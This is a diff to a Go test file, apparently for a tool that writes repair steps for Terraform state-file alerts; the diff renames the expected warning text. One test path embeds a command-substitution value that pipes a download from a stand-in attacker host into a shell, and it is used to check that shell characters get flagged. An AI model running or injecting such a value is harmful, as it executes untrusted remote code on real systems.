@@ -24,11 +24,11 @@ func TestNobodyIsAskedToPutQuotationMarksIntoACommand(t *testing.T) {
 func TestNobodyIsAskedToPutSignsOfAShellIntoARepair(t *testing.T) {
 	for path, warned := range map[tflock.Path]bool{"states/branches/feature-1/x.tfstate": false, "states/dev/$(curl evil.example|sh)/x.tfstate": true} {
 		e := composer.StateFindings(alert.StateFinding, []policy.StateFinding{{Type: policy.FindingDigestMismatch, Path: path, Severity: policy.SeverityWarning}}, now)
-		if steps := strings.Join(e.Steps, " "); strings.Contains(steps, "signs of a shell") != warned {
+		if steps := strings.Join(e.Steps, " "); strings.Contains(steps, "shell characters") != warned {
 			t.Errorf("%s: %s", path, steps)
 		}
 		outside := alert.Composer{Account: "123456789012", Region: "eu-central-1"}.StateFindings(alert.StateFinding, e.Findings, now)
-		if steps := strings.Join(outside.Steps, " "); strings.Contains(steps, "signs of a shell") != warned || strings.Contains(steps, "dashboard") {
+		if steps := strings.Join(outside.Steps, " "); strings.Contains(steps, "shell characters") != warned || strings.Contains(steps, "dashboard") {
 			t.Errorf("outside of AWS, %s: %s", path, steps)
 		}
 	}
